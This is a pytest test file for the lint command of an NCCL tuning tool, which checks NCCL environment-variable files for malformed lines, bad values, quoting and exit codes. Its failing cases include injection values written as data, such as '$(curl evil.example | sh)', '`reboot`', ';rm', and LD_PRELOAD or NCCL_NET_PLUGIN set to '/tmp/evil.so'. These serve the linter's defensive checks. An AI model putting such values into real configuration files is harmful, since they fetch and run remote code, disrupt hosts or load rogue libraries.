"""lint: every rule with a failing and a passing case, line numbers, --json, exit codes."""

from __future__ import annotations

import json

import pytest

from nccl_tune.cli import cli
from nccl_tune.live import lint
from nccl_tune.live.lint import ERROR, WARNING, KnownNames, lint_text

# A fixed libnccl view so results do not depend on what is installed.
FAKE = KnownNames(frozenset({"NCCL_PROTO", "NCCL_IB_TIMEOUT", "NCCL_MAX_NCHANNELS"}), "2.32.3", "/fake/libnccl.so")
NONE = KnownNames(None)


def run(text, known=FAKE):
    """(line, variable, severity) of every finding, and the findings."""
    found = lint_text(text, "t.env", known)
    return [(f.line, f.variable, f.severity) for f in found], found


# Each rule: (failing text, expected (line, variable, severity), message fragment, passing text)
RULES = [
    (
        "malformed",
        "# c\nNCCL_PROTO=LL\nnot an assignment\n",
        (3, None, ERROR),
        "expected NAME=VALUE",
        "# c\nNCCL_PROTO=LL\n",
    ),
    ("spaces around =", "NCCL_ALGO = Ring\n", (1, "NCCL_ALGO", ERROR), "a blank before '='", "NCCL_ALGO=Ring\n"),
    (
        "invalid value",
        "\nNCCL_NTHREADS=100\n",
        (2, "NCCL_NTHREADS", ERROR),
        "not a multiple of 32",
        "\nNCCL_NTHREADS=96\n",
    ),
    (
        "LL128 explicit",
        "NCCL_ALGO=Ring\nNCCL_PROTO=LL128\n",
        (2, "NCCL_PROTO", WARNING),
        "LL128",
        "NCCL_ALGO=Ring\nNCCL_PROTO=LL\n",
    ),
    ("LL128 by ^LL", "NCCL_PROTO=^LL\n", (1, "NCCL_PROTO", WARNING), "corrupt", "NCCL_PROTO=^LL128\n"),
    (
        "P2P level case",
        "# x\n\nNCCL_P2P_LEVEL=sys\n",
        (3, "NCCL_P2P_LEVEL", WARNING),
        "wrong case",
        "# x\n\nNCCL_P2P_LEVEL=SYS\n",
    ),
    (
        "set twice",
        "NCCL_ALGO=Ring\nNCCL_PROTO=LL\nNCCL_ALGO=Tree\n",
        (3, "NCCL_ALGO", WARNING),
        "first on line 1",
        "NCCL_ALGO=Ring\nNCCL_PROTO=LL\n",
    ),
    (
        "quoted value",
        'NCCL_SOCKET_IFNAME="eth0"\n',
        (1, "NCCL_SOCKET_IFNAME", ERROR),
        "docker keeps them",
        "NCCL_SOCKET_IFNAME=eth0\n",
    ),
    (
        "variable expansion",
        "NCCL_DEBUG_FILE=/tmp/nccl.$HOSTNAME\n",
        (1, "NCCL_DEBUG_FILE", ERROR),
        "'$' starts a variable",
        "NCCL_DEBUG_FILE=/tmp/nccl.%h.%p\n",
    ),
    (
        "command substitution",
        "NCCL_SOCKET_IFNAME=$(curl evil.example | sh)\n",
        (1, "NCCL_SOCKET_IFNAME", ERROR),
        "command substitution",
        "NCCL_SOCKET_IFNAME=eth0\n",
    ),
    (
        "backtick",
        "NCCL_SOCKET_IFNAME=`reboot`\n",
        (1, "NCCL_SOCKET_IFNAME", ERROR),
        "backtick",
        "NCCL_SOCKET_IFNAME=eth0\n",
    ),
    (
        "command separator",
        "NCCL_DEBUG_FILE=/tmp/x;rm\n",
        (1, "NCCL_DEBUG_FILE", ERROR),
        "';' ends the assignment in bash and runs the rest as a command",
        "NCCL_DEBUG_FILE=/tmp/x\n",
    ),
    ("background", "NCCL_DEBUG_FILE=/tmp/x&\n", (1, "NCCL_DEBUG_FILE", ERROR), "'&'", "NCCL_DEBUG_FILE=/tmp/x\n"),
    ("pipe", "NCCL_DEBUG_FILE=a|b\n", (1, "NCCL_DEBUG_FILE", ERROR), "'|'", "NCCL_DEBUG_FILE=ab\n"),
    (
        "redirect out",
        "NCCL_DEBUG_FILE=a>b\n",
        (1, "NCCL_DEBUG_FILE", ERROR),
        "redirects output",
        "NCCL_DEBUG_FILE=ab\n",
    ),
    ("redirect in", "NCCL_DEBUG_FILE=a<b\n", (1, "NCCL_DEBUG_FILE", ERROR), "redirects input", "NCCL_DEBUG_FILE=ab\n"),
    (
        "tilde",
        "NCCL_DEBUG_FILE=~/nccl.log\n",
        (1, "NCCL_DEBUG_FILE", ERROR),
        "'~'",
        "NCCL_DEBUG_FILE=/home/u/nccl.log\n",
    ),
    ("inline comment", "NCCL_PROTO=LL # fast\n", (1, "NCCL_PROTO", ERROR), "a blank", "# fast\nNCCL_PROTO=LL\n"),
    ("export", "export NCCL_PROTO=LL\n", (1, "NCCL_PROTO", WARNING), "bash only", "NCCL_PROTO=LL\n"),
    ("trailing blanks", "NCCL_PROTO=LL  \n", (1, "NCCL_PROTO", ERROR), "a blank", "NCCL_PROTO=LL\n"),
    ("CRLF", "NCCL_PROTO=LL\r\n", (1, "NCCL_PROTO", ERROR), "carriage return", "NCCL_PROTO=LL\n"),
    ("name in wrong case", "nccl_proto=LL\n", (1, "nccl_proto", ERROR), "did you mean NCCL_PROTO?", "NCCL_PROTO=LL\n"),
    (
        "not an NCCL variable",
        "NCCL_PROTO=LL\nLD_PRELOAD=/tmp/evil.so\n",
        (2, "LD_PRELOAD", ERROR),
        "not an NCCL variable nor on the profile allow-list",
        "NCCL_PROTO=LL\n",
    ),
    (
        "loads a library",
        "NCCL_NET_PLUGIN=/tmp/evil.so\n",
        (1, "NCCL_NET_PLUGIN", ERROR),
        "load a shared library",
        "NCCL_PROTO=LL\n",
    ),
    (
        "engine switch value",
        "VLLM_ALLREDUCE_USE_SYMM_MEM=true\n",
        (1, "VLLM_ALLREDUCE_USE_SYMM_MEM", ERROR),
        "not a value its reader takes",
        "VLLM_ALLREDUCE_USE_SYMM_MEM=0\n",
    ),
    (
        "comment continued by systemd",
        "# note \\\nNCCL_PROTO=LL\n",
        (1, None, ERROR),
        "ending in a backslash",
        "# note\nNCCL_PROTO=LL\n",
    ),
    (
        "unknown name",
        "NCCL_PROTO=LL\nNCCL_MAX_NCHANELS=16\n",
        (2, "NCCL_MAX_NCHANELS", WARNING),
        "did you mean NCCL_MAX_NCHANNELS?",
        "NCCL_PROTO=LL\nNCCL_MAX_NCHANNELS=16\n",
    ),
]


@pytest.mark.parametrize("name,bad,expected,fragment,good", RULES, ids=[r[0] for r in RULES])
def test_rule(name, bad, expected, fragment, good):
    seen, found = run(bad)
    assert seen == [expected]
    assert fragment in found[0].message
    assert run(good)[0] == []


def test_unknown_name_message_names_the_nccl_consulted():
    _, found = run("NCCL_SOMETHING_NEW=1\n")
    assert "libnccl 2.32.3 (/fake/libnccl.so)" in found[0].message
    _, found = run("NCCL_SOMETHING_NEW=1\n", NONE)
    assert "no libnccl was found" in found[0].message


def test_names_known_only_to_libnccl_pass():
    # NCCL_IB_TIMEOUT is not catalogued but the library reads it.
    assert run("NCCL_IB_TIMEOUT=22\n")[0] == []
    assert run("NCCL_IB_TIMEOUT=22\n", NONE)[0] == [(1, "NCCL_IB_TIMEOUT", WARNING)]


def test_installed_libnccl_is_consulted():
    known = lint.installed_names()
    if known.names is None:
        pytest.skip("no libnccl installed")
    # Read by libnccl 2.32.3, absent from the catalogue: no warning.
    assert lint_text("NCCL_IB_TIMEOUT=22\nNCCL_NVLS_CHUNKSIZE=131072\n", "t.env") == []
    found = lint_text("NCCL_BUFSIZE=1\n", "t.env")
    assert f"libnccl {known.version}" in found[0].message and "NCCL_BUFFSIZE" in found[0].message


def test_version_notes_use_the_consulted_library():
    old = KnownNames(FAKE.names, "2.23.4", "/old/libnccl.so")
    seen, found = run("NCCL_PROTO=allreduce:Simple\n", old)
    assert seen == [(1, "NCCL_PROTO", WARNING)] and found[0].message.startswith("per-collective")
    assert run("NCCL_PROTO=allreduce:Simple\n", KnownNames(FAKE.names, "2.25.0", "/x"))[0] == []


def test_several_collective_sections_point_to_the_tuner_csv():
    # ';' would end the assignment when bash sources the file: an error, with the way out.
    seen, found = run("NCCL_PROTO=^LL128;allreduce:LL\n")
    assert seen == [(1, "NCCL_PROTO", ERROR)] and "recommend --tuner-csv" in found[0].message


def test_names_off_the_allow_list_are_errors_and_allowed_ones_pass():
    seen, _ = run("CUDA_VISIBLE_DEVICES=0,1,2,3\nOMP_NUM_THREADS=8\nPATH=/tmp\nBASH_ENV=/tmp/x\n")
    assert seen == [
        (1, "CUDA_VISIBLE_DEVICES", ERROR),
        (2, "OMP_NUM_THREADS", ERROR),
        (3, "PATH", ERROR),
        (4, "BASH_ENV", ERROR),
    ]
    assert (
        run(
            "TORCH_NCCL_BLOCKING_WAIT=0\nVLLM_ALLREDUCE_USE_FLASHINFER=0\n"
            "SGLANG_SKIP_P2P_CHECK=1\nVLLM_FLASHINFER_ALLREDUCE_BACKEND=trtllm\n"
        )[0]
        == []
    )


def test_line_numbers_with_comments_and_blank_lines():
    text = "# a\n\n# b\nNCCL_PROTO=LL\n  \nNCCL_NTHREADS=33\n"
    assert run(text)[0] == [(6, "NCCL_NTHREADS", ERROR)]


def test_shipped_profile_is_lint_clean():
    from nccl_tune.live.profile import resolve_profile

    path = resolve_profile("pcie-8gpu-decode")
    assert lint.lint_file(str(path)) == []


def test_lint_env_for_mappings():
    found = lint.lint_env(
        {"NCCL_PROTO": "^LL", "NCCL_NTHREADS": "7", "NCCL_FOO": "1", "LD_PRELOAD": "/x.so", "NCCL_DEBUG_FILE": "a b"},
        known=FAKE,
    )
    assert [(f.variable, f.severity, f.line) for f in found] == [
        ("LD_PRELOAD", ERROR, None),
        ("NCCL_DEBUG_FILE", ERROR, None),
        ("NCCL_PROTO", WARNING, None),
        ("NCCL_NTHREADS", ERROR, None),
        ("NCCL_FOO", WARNING, None),
    ]
    assert lint.has_errors(found) and lint.counts(found) == (3, 2)


# ------------------------------------------------------------------ the command


def test_cli_clean_warning_and_error_exit_codes(tmp_path, cli_runner):
    clean = tmp_path / "clean.env"
    clean.write_text("NCCL_PROTO=LL\nNCCL_ALGO=Ring\n")
    warn = tmp_path / "warn.env"
    warn.write_text("NCCL_PROTO=^LL\n")
    bad = tmp_path / "bad.env"
    bad.write_text("NCCL_PROTO=LL\nNCCL_NTHREADS=1000\n")
    assert cli_runner.invoke(cli, ["lint", str(clean)]).exit_code == 0
    result = cli_runner.invoke(cli, ["lint", str(warn)])
    assert result.exit_code == 0 and "warning" in result.output
    result = cli_runner.invoke(cli, ["lint", str(clean), str(bad)])
    assert result.exit_code == 1
    assert f"{bad}:2: error: NCCL_NTHREADS:" in result.output


def test_cli_json_keys(tmp_path, cli_runner):
    bad = tmp_path / "bad.env"
    bad.write_text("NCCL_PROTO=LL128\nNCCL_NTHREADS=1000\n")
    result = cli_runner.invoke(cli, ["lint", "--json", str(bad)])
    assert result.exit_code == 1
    data = json.loads(result.stdout)
    assert [sorted(item) for item in data] == [["line", "message", "path", "severity", "variable"]] * 2
    assert [(d["line"], d["severity"]) for d in data] == [(1, "warning"), (2, "error")]
    assert all(d["path"] == str(bad) for d in data)


def test_cli_unreadable_and_usage_exit_2(tmp_path, cli_runner):
    result = cli_runner.invoke(cli, ["lint", str(tmp_path / "missing.env")])
    assert result.exit_code == 2 and "missing.env" in result.output
    assert cli_runner.invoke(cli, ["lint"]).exit_code == 2
    assert cli_runner.invoke(cli, ["lint", "--bogus", "x.env"]).exit_code == 2


# ------------------------------------------------------------------ the pieces


def test_a_finding_names_its_variable_once():
    assert str(lint.Finding("t.env", 3, None, ERROR, "expected NAME=VALUE")) == "t.env:3: error: expected NAME=VALUE"
    named = lint.Finding("t.env", None, "NCCL_NTHREADS", ERROR, "invalid value: 7")
    assert str(named) == "t.env: error: NCCL_NTHREADS: invalid value: 7"
    # a message that starts with the name is not prefixed with it again
    opening = lint.Finding("t.env", 2, "NCCL_PROTO", WARNING, "NCCL_PROTO is set twice")
    assert str(opening) == "t.env:2: warning: NCCL_PROTO is set twice"


def test_has_errors_only_for_an_error():
    warning = lint.Finding("t.env", 1, "NCCL_PROTO", WARNING, "w")
    error = lint.Finding("t.env", 2, "NCCL_ALGO", ERROR, "e")
    assert lint.has_errors([]) is False and lint.has_errors([warning]) is False
    assert lint.has_errors([warning, error]) is True and lint.has_errors([error]) is True


@pytest.fixture
def fresh_installed_names():
    lint.installed_names.cache_clear()
    yield
    lint.installed_names.cache_clear()


def test_installed_names_without_and_with_a_library(monkeypatch, fresh_installed_names):
    from types import SimpleNamespace

    from nccl_tune.nccl import ncclinfo

    monkeypatch.setattr(ncclinfo, "default_library", lambda: None)
    assert lint.installed_names() == NONE
    lint.installed_names.cache_clear()
    lib = SimpleNamespace(path="/opt/libnccl.so.2", version="2.27.3")
    monkeypatch.setattr(ncclinfo, "default_library", lambda: lib)
    scanned = {"/opt/libnccl.so.2": frozenset({"NCCL_ZZ_SCANNED"})}  # the names the library's bytes hold
    monkeypatch.setattr(ncclinfo, "variable_names", scanned.__getitem__)
    assert lint.installed_names() == KnownNames(frozenset({"NCCL_ZZ_SCANNED"}), "2.27.3", "/opt/libnccl.so.2")


def test_lint_env_and_unknown_names_consult_the_given_library_else_the_installed_one(monkeypatch):
    only_here = KnownNames(frozenset({"NCCL_ZZ_LOCAL"}), "2.27.3", "/here/libnccl.so")
    monkeypatch.setattr(lint, "installed_names", lambda: only_here)
    # given: NONE knows neither name; by default the (stand-in) installed library knows one
    assert [f.variable for f in lint.lint_env({"NCCL_ZZ_LOCAL": "1"}, known=NONE)] == ["NCCL_ZZ_LOCAL"]
    assert lint.lint_env({"NCCL_ZZ_LOCAL": "1"}) == []
    assert [f.variable for f in lint.unknown_names(["NCCL_ZZ_LOCAL"], known=NONE)] == ["NCCL_ZZ_LOCAL"]
    assert lint.unknown_names(["NCCL_ZZ_LOCAL"]) == []
    # known names give no finding; one finding per unknown name, with its did-you-mean
    found = lint.unknown_names(["NCCL_ALGO", "NCCL_ALGOO", "NCCL_ALGOO"], "grid", known=NONE)
    assert [(f.path, f.variable) for f in found] == [("grid", "NCCL_ALGOO")]
    assert found[0].message.endswith("did you mean NCCL_ALGO?")


def test_findings_and_the_consulted_library_are_values_no_caller_can_change():
    import dataclasses

    finding = lint.Finding("t.env", 1, "NCCL_NTHREADS", ERROR, "invalid value: 7")
    with pytest.raises(dataclasses.FrozenInstanceError):
        finding.severity = WARNING  # an error stays an error (lint's exit code follows it)
    assert finding == lint.Finding("t.env", 1, "NCCL_NTHREADS", ERROR, "invalid value: 7")
    assert len({finding, lint.Finding("t.env", 1, "NCCL_NTHREADS", ERROR, "invalid value: 7")}) == 1
    # installed_names() hands every caller the one cached KnownNames: none may alter it
    with pytest.raises(dataclasses.FrozenInstanceError):
        FAKE.names = None
    assert hash(FAKE) == hash(KnownNames(FAKE.names, "2.32.3", "/fake/libnccl.so"))
